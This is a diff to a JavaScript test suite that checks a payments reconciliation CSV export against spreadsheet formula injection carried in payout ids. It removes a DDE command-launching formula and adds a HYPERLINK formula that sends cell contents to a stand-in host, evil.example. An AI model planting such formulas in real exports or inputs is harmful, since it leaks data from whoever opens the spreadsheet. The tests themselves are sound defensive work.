@@ -52,8 +52,7 @@ describe('reconciliation CSV: hostile text from signed events', function () {
       txns.charge({ chargeId: stray.chargeId, paymentIntentId: stray.paymentIntentId, amount: 700, fee: 50 }),
     ];
     const amount = items.reduce((sum, i) => sum + i.net, 0);
-    // No ':' in it: BullMQ refuses such a job id, and the payout's items would never be fetched (a finding of its own).
-    const payout = payoutEvents({ amount, id: `=SUM(1+1)*cmd|' /C calc'!A0-${uniqueId('po')}` });
+    const payout = payoutEvents({ amount, id: `=HYPERLINK("http://evil.example/?d="&A2,"po")-${uniqueId('po')}` });
     rig.balance.set(payout.id, [txns.payout({ payoutId: payout.id, amount, id: payout.balanceTransactionId }), ...items]);
     await deliverInOrder(t, [payout.event('payout.paid')]);
     await itemsSettled(t, payout.id);
@@ -69,5 +68,13 @@ describe('reconciliation CSV: hostile text from signed events', function () {
 
     const unguarded = records.flatMap((r) => Object.entries(r).filter(([, cell]) => FORMULA_START.test(cell) && !NUMBER.test(cell)).map(([column, cell]) => `${r.id} ${column}: ${cell}`));
     assert.deepEqual(unguarded, []);
+  });
+
+  it("reconciles a payout whose id has a ':' (BullMQ refuses it in a job id) and the payouts dispatched with it", async () => {
+    const { t } = rig;
+    const payouts = [payoutEvents({ amount: 0, id: `po:${uniqueId('x')}` }), payoutEvents({ amount: 0, id: `po%3A${uniqueId('y')}` }), payoutEvents({ amount: 0 })];
+    for (const payout of payouts) rig.balance.set(payout.id, [txns.payout({ payoutId: payout.id, amount: 0, id: payout.balanceTransactionId })]);
+    await deliverInOrder(t, payouts.map((p) => p.event('payout.paid')));
+    for (const payout of payouts) assert.equal((await itemsSettled(t, payout.id)).items_status, 'done', payout.id);
   });
 });
